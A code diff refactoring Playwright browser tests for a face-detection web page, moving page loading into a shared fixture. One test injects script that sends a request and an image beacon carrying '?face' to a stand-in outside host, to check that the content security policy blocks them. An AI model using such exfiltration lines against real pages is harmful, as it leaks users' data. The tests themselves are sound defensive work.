@@ -31,7 +31,7 @@ TELL = """addEventListener("securitypolicyviolation",
 
 
 @pytest.fixture
-def window(browser: Any) -> Iterator[Any]:
+def window(browser: Any, url: str) -> Iterator[Any]:
     """A browser's window, whose `hostile` tells who called it, and the errors of its console."""
     context = browser.new_context(viewport={"width": 1440, "height": 900})
     context.set_default_timeout(90_000)
@@ -46,22 +46,20 @@ def window(browser: Any) -> Iterator[Any]:
     tab.add_init_script(TELL)
     tab.on("console", lambda said: tab.errors.append(said.text) if said.type == "error" else None)
     tab.on("pageerror", lambda error: tab.errors.append(str(error)))
+    tab.goto(url)
+    tab.locator(".example").first.wait_for()
     yield tab
     context.close()
 
 
-def test_the_page_keeps_its_own_policy(window: Any, url: str) -> None:
-    window.goto(url)
-    window.locator(".example").first.wait_for()
+def test_the_page_keeps_its_own_policy(window: Any) -> None:
     for name in USED:
         STATES[name](window)
     assert window.errors == []
 
 
-def test_what_would_leave_the_page_is_held_back(window: Any, url: str) -> None:
+def test_what_would_leave_the_page_is_held_back(window: Any) -> None:
     """A script that got in after all could not send a face away."""
-    window.goto(url)
-    window.locator(".example").first.wait_for()
     window.evaluate("fetch('https://elsewhere.example/').catch(() => null)")
     window.evaluate("new Image().src = 'https://elsewhere.example/?face'")
     window.evaluate("""() => { const script = document.createElement("script");
@@ -71,9 +69,7 @@ def test_what_would_leave_the_page_is_held_back(window: Any, url: str) -> None:
     assert policies == {"connect-src", "img-src", "script-src-elem"}
 
 
-def test_files_with_hostile_names_stay_text(window: Any, url: str, no_faces: Path) -> None:
-    window.goto(url)
-    window.locator(".example").first.wait_for()
+def test_files_with_hostile_names_stay_text(window: Any, no_faces: Path) -> None:
     picture = {"mimeType": "image/png", "buffer": no_faces.read_bytes()}
     bad = {"mimeType": "image/png", "buffer": b"no picture"}
     batch(window)
@@ -93,11 +89,7 @@ def test_files_with_hostile_names_stay_text(window: Any, url: str, no_faces: Pat
     assert window.called == []
 
 
-def test_after_the_camera_was_pulled_out_it_goes_on_where_there_is_one(
-    window: Any, url: str
-) -> None:
-    window.goto(url)
-    window.locator(".example").first.wait_for()
+def test_after_the_camera_was_pulled_out_it_goes_on_where_there_is_one(window: Any) -> None:
     STATES["webcam-running"](window)
     window.evaluate(
         """document.querySelector("#webcam video").srcObject.getTracks().forEach((track) => {
